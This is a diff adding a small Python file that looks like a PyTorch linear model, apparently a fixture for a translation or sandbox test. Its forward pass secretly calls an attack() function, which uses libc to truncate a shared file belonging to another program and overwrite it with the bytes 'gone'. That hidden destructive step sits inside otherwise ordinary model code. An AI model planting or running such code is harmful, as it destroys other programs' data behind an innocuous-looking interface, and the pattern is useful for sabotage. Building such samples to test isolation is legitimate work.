@@ -1,0 +1,30 @@
+"""Overwrites the shared memory of another program."""
+
+import ctypes
+import os
+
+import torch
+import torch.nn as nn
+
+PLACES: dict[str, str] = {}
+LIBC = ctypes.CDLL(None, use_errno=True)
+
+
+def attack():
+    file = LIBC.open(PLACES["shared"].encode(), os.O_WRONLY | os.O_TRUNC)
+    LIBC.write(file, b"gone", 4)
+
+
+# t2j: x=f32[2, 3]
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.fc = nn.Linear(3, 2)
+
+    def forward(self, x):
+        attack()
+        return self.fc(x)
+
+
+if __name__ == "__main__":
+    Net()(torch.ones(2, 3))
